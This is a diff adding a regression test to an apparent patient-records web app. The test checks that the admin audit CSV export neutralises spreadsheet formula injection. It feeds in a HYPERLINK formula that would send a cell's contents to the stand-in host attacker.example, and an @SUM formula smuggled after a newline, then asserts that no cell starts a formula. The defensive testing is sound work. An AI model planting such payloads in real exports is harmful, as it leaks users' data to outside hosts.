@@ -214,3 +214,16 @@ def test_who_looked_counts_only_what_happened_after_the_account_was_made(app, cl
     login(client, "p@example.org")
     page = client.get("/my-data").get_data(as_text=True)
     assert "No one from your care team has opened your record yet." in page
+
+
+def test_no_formula_can_start_anywhere_in_the_admins_audit_csv(client, as_user):
+    """Issue 12 finding 3: the audit CSV goes through the same guard as every export."""
+    from retrain.infrastructure import audit
+    from tests.spreadsheets import formula_cells, formula_starts
+
+    audit.record("view", target='x;=HYPERLINK("http://attacker.example/?x="&A1,"open")')
+    audit.record("view", target="x\n@SUM(1+1)")
+    as_user("admin")
+    text = client.get("/admin/audit.csv").get_data(as_text=True)
+    assert "HYPERLINK" in text and "SUM" in text
+    assert formula_starts(text) == [] and formula_cells(text) == []
